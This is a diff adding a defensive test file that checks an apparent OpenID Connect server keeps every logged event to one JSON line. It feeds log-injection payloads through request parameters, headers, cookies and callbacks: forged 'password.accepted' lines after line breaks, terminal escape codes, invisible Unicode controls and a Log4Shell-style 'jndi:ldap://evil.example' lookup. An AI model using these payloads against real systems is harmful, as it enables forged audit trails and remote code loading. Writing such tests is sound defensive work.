@@ -1,0 +1,229 @@
+/**
+ * A90. Somebody writes line breaks, terminal commands or another program's placeholders into whatever is logged, so that a line
+ * of theirs stands among ours, or a collector runs something. One event is one line of JSON whatever it carries, and one row.
+ * Guards: pino's JSON and `unruly` in src/log.ts; the closed set of `AuditFacts`.
+ */
+import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
+import type { AuditFacts } from '../../src/audit.ts';
+import type { Log } from '../../src/log.ts';
+import { auditEvents } from '../../src/records.ts';
+import type { Ask, Browser } from '../support/browser.ts';
+import { post } from '../support/carrier.ts';
+import { enterPassword, openRelyingParty, type RelyingParty } from '../support/relying-party.ts';
+import { keepLines } from '../support/surface-lines.ts';
+import { startWorld, type World } from '../support/world.ts';
+
+const mark = 'mark-';
+const forgedLine = '{"level":"info","event":"password.accepted","subject":"root"}';
+const texts: readonly string[] = [
+  `${mark}1\n${forgedLine}`,
+  `${mark}2\r\n${forgedLine}\r\n`,
+  `${mark}3\r${forgedLine}`,
+  `${mark}4\u001B[2J\u001B[1;31mroot\u001B]0;title\u0007`,
+  `${mark}5\u009B2J\u0085${forgedLine}`,
+  `${mark}6\u2028${forgedLine}\u2029`,
+  `${mark}7\u0000${forgedLine}`,
+  `${mark}8\${jndi:ldap://evil.example/a}\${env:HOME}%d{x}`,
+  `${mark}9\u202E\u2066\u200B\uFEFF"}],{"`,
+  `${mark}10\\n\\u000a\\"}\\`,
+  `${mark}11\v\f\b\u007F`,
+];
+/** What may stand in a header: bytes of UTF-8 without controls. */
+const inHeader = (text: string): string =>
+  // oxlint-disable-next-line no-control-regex
+  Buffer.from(text.replaceAll(/[\u0000-\u001F\u007F]/g, ''), 'utf8').toString('latin1');
+
+let world: World;
+let rp: RelyingParty;
+let events = 0;
+const lines = keepLines();
+/** Counts what was said, beside what was written. */
+const counting = (log: Log): Log => ({
+  debug: (...said) => void ((events += 1), log.debug(...said)),
+  info: (...said) => void ((events += 1), log.info(...said)),
+  warn: (...said) => void ((events += 1), log.warn(...said)),
+  error: (...said) => void ((events += 1), log.error(...said)),
+  child: fields => counting(log.child(fields)),
+});
+beforeAll(async () => {
+  world = await startWorld({
+    wrap: parts => {
+      const logged = lines.wrap(parts);
+      return { ...logged, log: counting(logged.log) };
+    },
+  });
+  rp = await openRelyingParty(world, await world.addClient({ id: 'contoso' }));
+});
+afterAll(async () => {
+  lines.stop();
+  await world.close();
+});
+
+/** What breaks a line for any reader: editors, terminals, collectors in Java and JavaScript. */
+const breaks = /\r\n|[\n\v\f\r\u0085\u2028\u2029]/;
+// oxlint-disable-next-line no-control-regex
+const unruly = /[\u0000-\u001F\u007F-\u009F\u200B-\u200F\u2028-\u202E\u2060-\u206F\uFEFF]/;
+
+const rows = async () => world.store.durable.collection(auditEvents).find({}, { limit: 10_000 });
+const expectOneLineEach = async (): Promise<void> => {
+  const all = lines.written
+    .join('')
+    .split(breaks)
+    .filter(line => line !== '');
+  expect(all).toHaveLength(events);
+  expect(lines.written).toHaveLength(events);
+  expect(all.filter(line => unruly.test(line))).toEqual([]);
+  const read = all.map(line => JSON.parse(line) as { readonly event: string; readonly subject?: string });
+  expect(read.filter(({ subject }) => subject === 'root')).toEqual([]);
+  // Every audited fact is one line and one row.
+  const audited = new Set((await rows()).map(({ event }) => event));
+  const facts = read.filter(({ event }) => audited.has(event));
+  expect(facts).toHaveLength((await rows()).length);
+};
+
+/** Where a stranger, a client or a carrier writes: every one of these is tried with every text. */
+const fields: Readonly<Record<string, (text: string, browser: Browser, here: string) => Promise<unknown>>> = {
+  ...Object.fromEntries(
+    [
+      'client_id',
+      'redirect_uri',
+      'state',
+      'nonce',
+      'scope',
+      'response_type',
+      'response_mode',
+      'prompt',
+      'max_age',
+      'login_hint',
+      'ui_locales',
+      'acr_values',
+      'claims',
+      'id_token_hint',
+      'code_challenge',
+      'request_uri',
+    ].map(name => [
+      `${name} of a request`,
+      async (text: string, browser: Browser) => {
+        const url = new URL((await rp.begin({ prompt: 'none' })).url);
+        url.searchParams.set(name, text);
+        return browser.go(url.href);
+      },
+    ]),
+  ),
+  ...Object.fromEntries(
+    ['grant_type', 'code', 'refresh_token', 'redirect_uri', 'code_verifier', 'client_id', 'client_secret', 'scope'].map(
+      name => [
+        `${name} at the token endpoint`,
+        async (text: string, browser: Browser) => {
+          const client = { client_id: 'contoso', client_secret: rp.client.secret ?? '' };
+          const form = {
+            ...client,
+            grant_type: 'authorization_code',
+            code: 'x',
+            redirect_uri: rp.redirectUri,
+            [name]: text,
+          };
+          return browser.go('/token', { form });
+        },
+      ],
+    ),
+  ),
+  ...Object.fromEntries(
+    [
+      'user-agent',
+      'accept-language',
+      'referer',
+      'origin',
+      'x-forwarded-for',
+      'content-type',
+      'authorization',
+      'accept',
+    ].map(name => [
+      `header ${name}`,
+      async (text: string, browser: Browser, here: string) => {
+        const ask: Ask = { form: { code: '1' }, headers: { [name]: inHeader(text) } };
+        return [await browser.go(`${here}/factor`, ask), await browser.go('/me', ask), await browser.go('/token', ask)];
+      },
+    ]),
+  ),
+  host: async (text, browser) => browser.go('/', { headers: { host: inHeader(text) } }),
+  'a path': async (text, browser) => browser.go(`/nowhere/${encodeURIComponent(text)}?${encodeURIComponent(text)}`),
+  'the name of a sign-in': async (text, browser) => browser.go(`/interaction/${encodeURIComponent(text)}`),
+  'a cookie': async (text, browser, here) => browser.go(here, { headers: { cookie: `browser=${inHeader(text)}` } }),
+  'a typed name': async (text, browser, here) => {
+    world.clock.advance(3_600);
+    return browser.go(`${here}/password`, { form: { name: text, password: text } });
+  },
+  'a typed code': async (text, browser, here) => browser.go(`${here}/factor`, { form: { code: text } }),
+  'a field’s name': async (text, browser, here) => browser.go(`${here}/factor`, { form: { [text]: text } }),
+  'a chosen method': async (text, browser, here) => browser.go(`${here}/options`, { form: { method: text } }),
+  'an answer to consent': async (text, browser, here) => browser.go(`${here}/consent`, { form: { answer: text } }),
+  'a language': async (text, browser) => browser.go('/language', { form: { language: text, back: text } }),
+  'what a carrier says': async text =>
+    post(world, {
+      path: `/callbacks/twilio/call/${encodeURIComponent(text)}/status`,
+      body: new URLSearchParams({ CallSid: text, CallStatus: text, Digits: text }).toString(),
+      signature: inHeader(text),
+    }),
+};
+
+describe('A90 one event is one line', () => {
+  test('A90 in an honest sign-in', async () => {
+    const browser = world.browser();
+    await enterPassword(browser, await browser.visit((await rp.begin()).url), world.people.noor);
+    expect(events).toBeGreaterThan(2);
+    await expectOneLineEach();
+  });
+
+  test('A90 whatever anybody writes into any of forty fields', async () => {
+    expect(Object.keys(fields).length).toBeGreaterThanOrEqual(40);
+    const before = events;
+    for (const text of texts) {
+      const browser = world.browser();
+      const page = await enterPassword(browser, await browser.visit((await rp.begin()).url), world.people.noor);
+      for (const write of Object.values(fields)) await write(text, browser, page.path);
+    }
+    expect(events - before).toBeGreaterThan(texts.length * 20);
+    // Some of it is really written down: it is not only that nothing reaches the log.
+    expect(lines.written.filter(line => line.includes(mark)).length).toBeGreaterThan(texts.length);
+    await expectOneLineEach();
+  }, 20_000);
+
+  test('A90 in every member that an audited fact has, and in what went wrong', async () => {
+    const members = [
+      'factor',
+      'authenticator',
+      'reason',
+      'client',
+      'acr',
+      'amr',
+      'address',
+      'progress',
+      'notice',
+    ] as const satisfies readonly (keyof AuditFacts)[];
+    for (const text of texts) {
+      const facts = Object.fromEntries(members.map(name => [name, text]));
+      const known = (await rows()).length;
+      const written = lines.written.length;
+      await world.house.audit({
+        event: 'notice.sent',
+        actor: text,
+        subject: text,
+        outcome: 'info',
+        reference: text,
+        ...facts,
+      });
+      world.house.parts.log.error(text, { error: new TypeError(text, { cause: new Error(text) }), [text]: [text] });
+      const [row] = (await rows()).slice(known);
+      expect(row).toMatchObject({ actor: text, subject: text, reference: text, facts });
+      const [line = '', failed = ''] = lines.written.slice(written);
+      expect(JSON.parse(line)).toMatchObject({ actor: text, subject: text, ...facts });
+      expect(JSON.parse(failed)).toMatchObject({
+        event: text,
+        error: { message: text, cause: { message: text } },
+        [text]: [text],
+      });
+    }
+    await expectOneLineEach();
+  });
+});
